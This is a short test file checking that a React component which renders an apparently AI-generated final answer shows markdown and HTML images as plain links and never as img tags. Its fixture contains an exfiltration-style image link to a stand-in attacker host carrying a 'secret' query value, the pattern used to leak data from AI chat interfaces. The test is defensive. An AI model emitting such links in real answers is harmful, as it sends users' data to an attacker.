import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { FinalAnswer } from '../src/components/final-answer.tsx';

describe('the final answer', () => {
  it('shows images of an answer as links and never as <img> that would load a remote URL', () => {
    const answer = '# Trip\n\n![map](https://evil.example/leak?d=secret) and ![](http://x.example/p.png)\n\n<img src="https://evil.example/raw">';
    const html = renderToStaticMarkup(<FinalAnswer result={{ status: 'succeeded', answer, artifacts: [] }} />);
    expect(html).not.toMatch(/<img/i);
    expect(html).toContain('href="https://evil.example/leak?d=secret"');
    expect(html).toContain('[map]');
    expect(html).toContain('[image]');
    expect(html).toContain('<h1>Trip</h1>');
  });
});
